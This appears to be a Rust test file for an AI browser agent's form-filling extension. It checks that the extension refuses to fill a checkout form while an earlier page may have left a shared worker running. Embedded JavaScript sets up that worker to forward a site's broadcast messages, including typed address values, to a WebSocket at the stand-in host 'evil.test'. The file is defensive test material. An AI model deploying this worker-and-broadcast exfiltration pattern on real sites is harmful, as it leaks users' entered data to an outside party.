//! A program that a page of the site left running before the task: a shared worker with an extended lifetime, which no
//! extension sees or ends, and which receives the broadcasts of its site's pages.

use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use crate::browser::node;
use crate::files::repository;
use crate::stage::{FORM, PATIENCE, REQUEST, Stage};
use crate::way_out::{arrive, quiet, wait_for};

/// A page that starts it.
const STARTS: &str = "<!doctype html><title>Earlier</title><script>
    new SharedWorker('/left.js', { name: 'left', extendedLifetime: true });</script>";

/// It sends the broadcasts on.
const LEFT: &str = "const send = (d) => new WebSocket('wss://evil.test:PORT/left?' + d);
    new BroadcastChannel('all').onmessage = (e) => send(e.data);
    send('started');";

/// Broadcasts the typed text to all of its origin.
const TELLS: &str = "<script>
    const all = new BroadcastChannel('all');
    addEventListener('input', () => setTimeout(() => {
      all.postMessage(encodeURIComponent(document.forms[0].elements.street.value));
      document.body.dataset.told = '';
    }, 50));</script>";

/// A browser whose start was reported to the extension, so that no page was open earlier.
fn machine(seed: u64) -> Stage {
    let mut stage = Stage::new(seed);
    stage.site.put("shop.test/checkout", &format!("{FORM}{TELLS}"));
    stage.site.put("shop.test/earlier", STARTS);
    stage.site.put("shop.test/left.js", LEFT);
    stage.serve(true);
    stage.browse();
    begins(&mut stage);
    stage
}

/// Chromium 156 installs an extension from its command line anew at each start and does not report the start, so the
/// test reports it.
fn begins(stage: &mut Stage) {
    stage.browser().at_question("begins", &serde_json::json!({}));
}

/// A page of the site starts it and is closed.
fn leave_one_running(stage: &mut Stage) {
    let (earlier, bank) = (stage.site.url("shop.test/earlier"), stage.site.url("bank.test/"));
    stage.browser().open(&earlier);
    arrive(stage, "evil.test", &["left?started"]);
    stage.browser().tab(&bank);
    stage.browser().at_question("alone", &serde_json::json!({}));
}

fn go_to_the_form(stage: &mut Stage) {
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    let page = stage.agent_until(None, "Deliver to");
    assert!(page.contains("Deliver to"), "{page}");
}

/// The message to the user, up to these words.
fn told_until(stage: &Stage, words: &str) -> String {
    let began = Instant::now();
    let mut told = String::new();
    while !told.contains(words) {
        assert!(began.elapsed() < PATIENCE, "{words}: {told}");
        told.push_str(&stage.asked());
        thread::sleep(Duration::from_millis(100));
    }
    told
}

/// Nothing is filled in and the user gets the reason; the program still receives the page's broadcasts.
fn is_denied(stage: &mut Stage) {
    go_to_the_form(stage);
    let before = quiet(stage);
    let reply = stage.agent_until(Some(REQUEST), "egress_blocked");
    assert_eq!(reply.trim(), "DENY.address {\"reason\":\"egress_blocked\"}");
    let told = told_until(stage, "--trust-open-pages");
    assert!(told.contains("until five minutes have passed"), "the question says so: {told}");
    assert!(told.contains("may have left a program running in the browser"), "{told}");
    assert!(told.contains("in 6 minutes") || told.contains("in 5 minutes"), "{told}");
    assert!(told.contains("on https://shop.test:"), "{told}");
    assert_eq!(stage.browser().values()["street"], "");
    assert_eq!(quiet(stage), before);
    stage.browser().evaluate("all.postMessage('alive')");
    arrive(stage, "evil.test", &["left?alive"]);
    stage.no_value_got_out();
}

#[test]
fn a_program_of_an_earlier_page_receives_filled_values_if_the_user_trusts_that_page() {
    let mut stage = machine(61);
    leave_one_running(&mut stage);
    stage.begin_task(&["--trust-open-pages"]);
    told_until(&stage, "could still pass on what is filled in");
    go_to_the_form(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    wait_for(&mut stage, "'told' in document.body.dataset");
    let street = stage.value("street");
    let spelled = stage.browser().evaluate(&format!("encodeURIComponent({})", serde_json::json!(street)));
    arrive(&stage, "evil.test", &[&format!("left?{}", spelled.as_str().unwrap())]);
}

#[test]
fn nothing_is_filled_while_an_earlier_page_may_have_left_a_program_running() {
    let mut stage = machine(62);
    leave_one_running(&mut stage);
    stage.begin_task(&[]);
    is_denied(&mut stage);
}

#[test]
fn a_restarted_worker_knows_of_earlier_pages_too() {
    let mut stage = machine(63);
    leave_one_running(&mut stage);
    stage.browser().stop_worker();
    stage.begin_task(&[]);
    stage.browser().stop_worker();
    is_denied(&mut stage);
}

#[test]
fn a_site_that_was_not_open_before_is_filled_at_once() {
    let mut stage = machine(64);
    let bank = stage.site.url("bank.test/");
    stage.browser().open(&bank);
    stage.begin_task(&[]);
    go_to_the_form(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    assert_eq!(stage.browser().values()["street"], stage.value("street"));
}

#[test]
fn a_new_extension_assumes_that_earlier_pages_were_open() {
    let mut stage = Stage::new(65);
    stage.site.put("shop.test/checkout", FORM);
    stage.serve(true);
    stage.browse();
    stage.begin_task(&[]);
    go_to_the_form(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "egress_blocked");
    assert!(reply.contains("egress_blocked"), "{reply}");
    told_until(&stage, "may have left a program running in the browser");
    begins(&mut stage);
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
}

#[test]
fn the_waiting_ends_after_five_minutes_whatever_the_clocks_and_workers_do() {
    let done = Command::new(node())
        .arg(repository().join("cli/tests/extension/earlier.mjs"))
        .arg(crate::files::extension())
        .output()
        .unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
}
